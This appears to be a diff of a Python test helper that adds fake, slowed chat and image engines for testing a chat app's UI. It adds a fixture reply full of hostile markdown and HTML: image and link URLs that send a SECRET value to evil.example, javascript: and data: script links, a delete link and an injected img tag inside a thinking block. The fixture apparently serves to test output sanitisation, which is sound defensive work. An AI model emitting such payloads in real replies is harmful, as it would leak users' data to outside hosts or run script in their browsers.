@@ -1,21 +1,78 @@
-"""A model server in memory that takes its time, so that a person can stop, reload and ask on while it writes."""
+"""A model server and a painter in memory that take their time, so that a person can stop, reload and go on."""
 
 from __future__ import annotations
 
+import re
+from collections.abc import AsyncGenerator, Callable
+from contextlib import aclosing
 from typing import Any
 
-from apps.engines.base import ChatRequest
+from apps.engines.base import ChatRequest, Delta, Finish, ToolCall
 from apps.engines.chat.fake import FakeChat
+from apps.engines.image.base import Drawn, DrawRequest, DrawStep
+from apps.engines.image.fake import FakePainter
 
 LONG = " ".join(f"This is sentence number {n} of a long answer about parental leave." for n in range(1, 60))
 
+HOSTILE = """![stolen](https://evil.example/a.png?d=SECRET) and ![own](/conversations/?delete=1)
+
+<img src="https://evil.example/b.png"> <https://evil.example/c?q=SECRET> [click](//evil.example/d) [ref][1]
+
+[1]: https://evil.example/e "reference"
+
+[script](javascript:alert(1)) [data](data:text/html,<script>alert(1)</script>) https://evil.example/f www.evil.example/g
+
+$\\href{https://evil.example/h}{x}$ and `url(https://evil.example/i)`
+
+Leave is explained [on this page](https://known.example/leave), also at https://known.example/more. Write to
+[the office](mailto:office@known.example), not to [them](mailto:office@evil.example?body=SECRET).
+"""
+_CALL = re.compile(r"call (\w+) (\{.*?\})")
+MARKED = "in every form"
+THINKING = "Think first."
+THOUGHT = "Let me consider <img src=https://evil.example/z> what they ask for."
+
 
 class PacedChat(FakeChat):
-    """As FakeChat, forty words a second; a question with "in detail" gets a long answer."""
+    """As FakeChat, forty words a second; a question with "in detail" gets a long answer, one with "in every form" a
+    hostile one, one with "Think first." thoughts before it."""
 
     def __init__(self, **options: Any) -> None:
         super().__init__(**options)
         self.first_token_s, self.gap_s = 0.2, 0.025
 
     def _say(self, request: ChatRequest) -> str:
+        if MARKED in request.messages[-1].content:
+            return HOSTILE
+        if THINKING in request.messages[-1].content:
+            return f"<think>{THOUGHT}</think> {super()._say(request)}"
         return LONG if "in detail" in request.messages[-1].content else super()._say(request)
+
+
+class CallingChat(PacedChat):
+    """As PacedChat, on a server that takes tools: it calls what a question says, such as `call dates {"a": 1}`."""
+
+    def __init__(self, **options: Any) -> None:
+        super().__init__(**options)
+        self.tools = True
+
+    async def stream(self, request: ChatRequest) -> AsyncGenerator[Delta | Finish, None]:
+        last = request.messages[-1]
+        wanted = _CALL.findall(last.content) if last.role == "user" and request.tools else []
+        if wanted:
+            self.calls.append(tuple(ToolCall(f"call-{at}", *found) for at, found in enumerate(wanted)))
+        async with aclosing(super().stream(request)) as items:
+            async for item in items:
+                yield item
+
+
+class PacedPainter(FakePainter):
+    """Takes a quarter of a second for each step, and two for those of something slow."""
+
+    def __init__(self, model: str = "", **options: Any) -> None:
+        super().__init__(model, **options)
+        self.gap_s = 0.25
+
+    def draw(self, request: DrawRequest, seen: Callable[[DrawStep], None]) -> Drawn:
+        self.gap_s = 2.0 if "slow" in request.prompt else 0.25
+        return super().draw(request, seen)
